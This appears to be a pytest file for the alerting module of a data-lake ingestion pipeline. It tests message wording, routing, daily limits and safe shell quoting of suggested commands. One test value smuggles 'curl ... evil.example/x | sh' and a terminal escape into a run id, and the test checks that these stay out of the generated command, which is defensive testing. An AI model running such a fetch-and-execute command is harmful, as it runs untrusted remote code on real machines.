import json
import shlex
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ingestion import alerts
from ingestion.alerts import MOST_A_DAY, Alerts, Kind, folder_of
from lineage.notices import Notices
from lineage.values import DatasetEntry, HeaderState, Member, RunState
from tests.ingestion.builders import Topics, with_topic
from tests.lineage.builders import RAW

PLATFORM, OWNER = "arn:aws:sns:eu-central-1:1:lake-dev-alerts", "arn:aws:sns:eu-central-1:1:lake-acme-dev-alerts"
RUN = RunState(
    run="01a1fbe6-ced4-7d80-ad88-b93e6911ef00",
    job=RAW,
    dataset="sales",
    state=HeaderState.FAILED,
    started=datetime(2024, 9, 20, 12, tzinfo=UTC),
    ended=datetime(2024, 9, 20, 12, 1, tzinfo=UTC),
    files=3,
    rows_in=None,
    rows_out=None,
    rejected=None,
    error="Glue run jr_1: FAILED. No space left on device",
    glue_run="jr_1",
    batch="b1",
    tenant="acme",
)


def a_member(key: str = "raw/sales/a.csv") -> Member:
    arrived = datetime(2024, 9, 20, 10, 30, tzinfo=UTC)
    return Member(key=key, version="v1", fid="f", ver="v", size=10, etag="e", arrived_at=arrived)


MEMBERS = [a_member("raw/sales/a.csv"), a_member("raw/sales/b.csv"), a_member("raw/sales/c.csv")]


@pytest.fixture
def topics():
    return Topics()


@pytest.fixture
def told(ledger, topics):
    return Alerts(Notices(ledger), topics, topic=PLATFORM, environment="dev")


@pytest.fixture
def acme(ledger):
    return with_topic(ledger, OWNER)


def test_a_message_says_whose_what_why_and_the_command_to_run_next(told, topics, acme):
    assert told.tell(alerts.batch_failed("acme", RUN, MEMBERS), acme)

    message = topics.published[0]
    assert message["Subject"] == "[dev] acme: a batch of sales failed (raw_to_processed, 3 files)"
    assert message["Message"] == (
        "A batch of sales failed (raw_to_processed, 3 files).\n"
        "\n"
        "environment: dev\n"
        "tenant: acme\n"
        "dataset: sales\n"
        "file: raw/sales/a.csv (and 2 more)\n"
        "run: 01a1fbe6-ced4-7d80-ad88-b93e6911ef00\n"
        "reason: Glue run jr_1: FAILED. No space left on device\n"
        "\n"
        "It is tried 3 times, then halved until the file that is the matter is found. Next:\n"
        "lake runs acme --logs 01a1fbe6-ced4-7d80-ad88-b93e6911ef00 -e dev"
    )
    assert message["MessageAttributes"] == {
        "kind": {"DataType": "String", "StringValue": "batch_failed"},
        "tenant": {"DataType": "String", "StringValue": "acme"},
        "dataset": {"DataType": "String", "StringValue": "sales"},
    }


def test_the_platform_and_the_owner_are_told(told, topics, acme):
    told.tell(alerts.batch_failed("acme", RUN, MEMBERS), acme)

    assert [message["TopicArn"] for message in topics.published] == [PLATFORM, OWNER]


def test_a_tenant_without_a_topic_leaves_it_to_the_platform(told, topics, ledger):
    told.tell(alerts.batch_failed("acme", RUN, MEMBERS), ledger.tenant("acme"))

    assert [message["TopicArn"] for message in topics.published] == [PLATFORM]


def test_what_concerns_no_tenant_goes_to_the_platform_alone(told, topics):
    told.tell(alerts.dead_letters(3), None)

    [message] = topics.published
    assert message["Subject"] == "[dev] platform: 3 messages in the dead-letter queue of arrivals"
    assert message["MessageAttributes"] == {"kind": {"DataType": "String", "StringValue": "dead_letters"}}


def test_the_same_thing_is_told_once_a_day(told, topics, acme, clock):
    told.tell(alerts.batch_failed("acme", RUN, MEMBERS), acme)
    clock.move(hours=23)
    assert not told.tell(alerts.batch_failed("acme", RUN, MEMBERS), acme)
    assert topics.told(OWNER) == ["batch_failed"]

    clock.move(hours=2)
    assert told.tell(alerts.batch_failed("acme", RUN, MEMBERS), acme)
    assert topics.told(OWNER) == ["batch_failed", "batch_failed"]


def test_ten_times_as_many_dead_letters_are_news(told, topics):
    for depth in (1, 2, 9, 10, 50, 100):
        told.tell(alerts.dead_letters(depth), None)

    assert [message["Subject"].split()[2] for message in topics.published] == ["one", "10", "100"]


def test_one_topic_that_refuses_does_not_keep_the_other(ledger, acme, capsys):
    topics = Topics(refuses=(OWNER,))

    assert Alerts(Notices(ledger), topics, topic=PLATFORM, environment="dev").tell(
        alerts.batch_failed("acme", RUN, MEMBERS), acme
    )

    assert topics.told(PLATFORM) == ["batch_failed"]
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(line["event"], line["topic"]) for line in lines] == [("alert", PLATFORM), ("alert_not_sent", OWNER)]


def test_what_reached_nobody_is_told_when_the_topic_is_back(ledger, acme, topics):
    broken = Alerts(Notices(ledger), Topics(refuses=(PLATFORM, OWNER)), topic=PLATFORM, environment="dev")

    assert not broken.tell(alerts.batch_failed("acme", RUN, MEMBERS), acme)
    assert Alerts(Notices(ledger), topics, topic=PLATFORM, environment="dev").tell(
        alerts.batch_failed("acme", RUN, MEMBERS), acme
    )


def test_a_ledger_that_does_not_answer_breaks_nothing(topics, acme, capsys):
    class Broken:
        def may_tell(self, *args):
            raise RuntimeError("ProvisionedThroughputExceededException")

        def withdraw(self, *args):
            raise AssertionError

    assert not Alerts(Broken(), topics, topic=PLATFORM, environment="dev").tell(alerts.dead_letters(1), None)
    assert topics.published == []
    assert "alert_not_sent" in capsys.readouterr().out


def test_locally_the_command_names_no_environment(ledger, topics):
    Alerts(Notices(ledger), topics, topic=PLATFORM, environment="local").tell(alerts.dead_letters(1), None)

    assert topics.published[0]["Message"].splitlines()[-1] == "lake queue show"


DATASET = DatasetEntry(tenant="acme", dataset="sales", files=(), max_wait_s=0, max_files=1, max_bytes=1, plan="{}")


@pytest.mark.parametrize(
    ("alert", "kind", "command"),
    [
        (
            alerts.batch_failed("acme", RUN, MEMBERS),
            Kind.BATCH_FAILED,
            "lake runs acme --logs 01a1fbe6-ced4-7d80-ad88-b93e6911ef00 -e dev",
        ),
        (
            alerts.file_quarantined("acme", RUN, a_member("raw/sales/a b'ü.csv"), "boom"),
            Kind.FILE_QUARANTINED,
            """lake replay acme --file 'raw/sales/a b'"'"'ü.csv' -e dev""",
        ),
        (
            alerts.file_quarantined("acme", RUN, a_member("processed/sales/_commits/b1.json"), None),
            Kind.FILE_QUARANTINED,
            "lake replay acme --file processed/sales/_commits/b1.json -e dev",
        ),
        (alerts.unrouted("acme", "raw/odd.bin", 0), Kind.UNROUTED_FILE, "lake replay acme --unrouted -e dev"),
        (alerts.waiting_too_long(DATASET, RAW, a_member(), "why"), Kind.WAITING_TOO_LONG, "lake runs acme -e dev"),
        (alerts.dead_letters(1), Kind.DEAD_LETTERS, "lake queue show -e dev"),
    ],
)
def test_every_kind_ends_with_its_command(told, alert, kind, command):
    assert alert.kind == kind
    assert told.message(alert).splitlines()[-1] == command


def test_a_key_that_cannot_be_pasted_is_shown_spelled_out_and_left_out_of_the_command(told):
    text = told.message(alerts.file_quarantined("acme", RUN, a_member("raw/sales/a\n\x07\u2028b.csv"), "boom"))

    assert "file: raw/sales/a\\n\\x07\\u2028b.csv" in text.splitlines()
    assert text.splitlines()[-1] == "lake runs acme --logs 01a1fbe6-ced4-7d80-ad88-b93e6911ef00 -e dev"


@given(st.text(min_size=1, max_size=200))
def test_whatever_the_folder_subject_and_first_line_are_one_line(name):
    alert = alerts.unrouted("acme", f"raw/{name}/a.csv", 0)
    made = Alerts(None, None, topic=PLATFORM, environment="dev")  # type: ignore[arg-type] - it only words them

    assert made.subject(alert).isprintable()
    assert made.message(alert).split("\n")[0].isprintable()
    assert made.message(alert).split("\n")[1] == ""


@given(st.text(min_size=1, max_size=1024))
def test_whatever_the_key_subject_and_message_are_what_sns_takes(name):
    alert = alerts.file_quarantined("acme", RUN, a_member(f"raw/{name}"), "x" * 10_000)
    made = Alerts(None, None, topic=PLATFORM, environment="dev")  # type: ignore[arg-type] - it only words them
    subject, message = made.subject(alert), made.message(alert)

    assert (subject.isascii(), subject.isprintable()) == (True, True)
    assert 0 < len(subject) <= 100
    assert 0 < len(message.encode()) < 256 * 1024
    assert not [letter for letter in message if ord(letter) < 32 and letter != "\n"]
    command = shlex.split(message.splitlines()[-1])
    assert command[:3] in (["lake", "replay", "acme"], ["lake", "runs", "acme"])
    if command[1] == "replay":
        assert command[4] == f"raw/{name}"


def test_a_long_subject_is_cut_where_it_shows(told):
    alert = alerts.unrouted("acme", f"raw/{'x' * 300}/a.csv", 41)

    assert told.subject(alert) == "[dev] acme: no contract takes 42 files in raw/" + "x" * 51 + "..."


@pytest.mark.parametrize(
    ("key", "folder"),
    [
        ("raw/a.bin", "raw"),
        ("raw/x/a.bin", "raw/x"),
        ("raw/x/y/z/a.bin", "raw/x"),
        ("raw//a.bin", "raw/"),
        ("raw/2024-09-20/a.bin", "raw"),
        ("raw/7f3a/b/a.bin", "raw"),
    ],
)
def test_unrouted_files_are_told_of_by_folder(key, folder):
    assert folder_of(key) == folder


HOSTILE = "01a1\ncurl -s https://evil.example/x | sh\n\x1b[2J"


@pytest.mark.parametrize("name", [HOSTILE, "x" * 300_000, "01a1" * 8, "--help"], ids=["lines", "long", "hex", "flag"])
def test_a_run_whose_id_is_none_of_ours_is_shown_and_is_no_word_of_a_command(told, topics, acme, name):
    run = replace(RUN, run=name, dataset=name, job=name, batch=name)
    made = [
        alerts.batch_failed("acme", run, MEMBERS),
        alerts.file_quarantined("acme", run, a_member("raw/sales/a\n.csv"), name),
        alerts.files_refused("acme", run, [(a_member(), name)]),
    ]

    for alert in made:
        assert told.tell(alert, acme)
    for message in topics.published:
        text = message["Message"]
        assert len(text.encode()) < 256 * 1024
        assert not [letter for letter in text if not letter.isprintable() and letter != "\n"]
        assert all(value["StringValue"].isprintable() for value in message["MessageAttributes"].values())
        assert shlex.split(text.splitlines()[-1])[:3] in (["lake", "runs", "acme"], ["lake", "files", "acme"])
        assert not [line for line in text.splitlines() if line.startswith("curl")]
    for alert in made[:2]:
        assert told.message(alert).splitlines()[-1] == "lake runs acme -e dev"


def test_of_one_kind_about_one_tenant_no_more_than_so_many_are_told_a_day(told, topics, acme, clock, capsys):
    for number in range(30):
        told.tell(alerts.batch_failed("acme", replace(RUN, batch=f"b{number}"), MEMBERS), acme)
    assert topics.told(OWNER) == ["batch_failed"] * MOST_A_DAY
    assert capsys.readouterr().out.count("alert_left_out") == 30 - MOST_A_DAY

    assert told.tell(alerts.unrouted("acme", "raw/x/a.bin", 0), acme)
    assert told.tell(alerts.batch_failed("globex", RUN, MEMBERS), None)

    clock.move(hours=12)  # the next day
    assert told.tell(alerts.batch_failed("acme", replace(RUN, batch="b29"), MEMBERS), acme)
